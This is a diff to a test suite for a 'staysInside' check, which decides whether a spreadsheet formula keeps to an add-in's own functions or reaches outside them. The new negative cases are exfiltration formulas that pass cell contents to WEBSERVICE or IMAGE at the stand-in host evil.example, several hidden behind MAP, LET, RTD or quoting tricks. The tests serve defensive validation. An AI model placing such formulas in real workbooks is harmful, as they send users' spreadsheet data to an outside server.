@@ -31,6 +31,12 @@ describe("A formula that a file claims", () => {
     '=TEXTJOIN("; ",TRUE,_xlfn.UNIQUE(SCOUT.TECHSTACK(A2)))',
     '=SCOUT.COMPANY("http://a.example/?q=WEBSERVICE(1)|x!y")',
     "=SCOUT.USES('Q1 plan'!A2,Leads[Keyword])",
+    "=SCOUT.COMPANY('Sheet1 (2)'!A2)&Leads[[#This Row],[Jobs (all)]]",
+    "=SCOUT.COMPANY('it''s \"here\"'!A2)",
+    "=MAP(A2:$A$9,LAMBDA(x,SCOUT.COMPANY(x&Sheet1!B2)))",
+    "=BYROW(Leads[Jobs],SUM)",
+    "=SUM(Leads[Jobs])*TaxRate",
+    "=REDUCE(0,A1:A3,LAMBDA(a,b,a+b))",
   ])("stays inside: %s", (formula) => {
     expect(staysInside(formula, "SCOUT")).toBe(true);
   });
@@ -48,6 +54,13 @@ describe("A formula that a file claims", () => {
     "=Other.xla!SCOUT.COMPANY(A1)",
     "=CALL(1)+SCOUT.COMPANY(A1)",
     '=SCOUT.COMPANY(INDIRECT("x"))',
+    '=MAP("https://evil.example/?"&A1,WEBSERVICE)',
+    '=MAP("https://evil.example/?"&A1,(_xlfn.IMAGE))',
+    "=SCAN(0,A1:A9,IF(1,webservice))",
+    "=LET(f,RTD,MAKEARRAY(1,1,f))",
+    `='a"b'!A1&WEBSERVICE("https://evil.example/?"&A1)&'c"d'!A1`,
+    `=Leads[a"b]&WEBSERVICE("https://evil.example/?"&A1)&Leads[c"d]`,
+    `=Leads[a'["b]&WEBSERVICE("https://evil.example/?"&A1)&Leads[c"d]`,
   ])("reaches outside: %s", (formula) => {
     expect(staysInside(formula, "SCOUT")).toBe(false);
   });
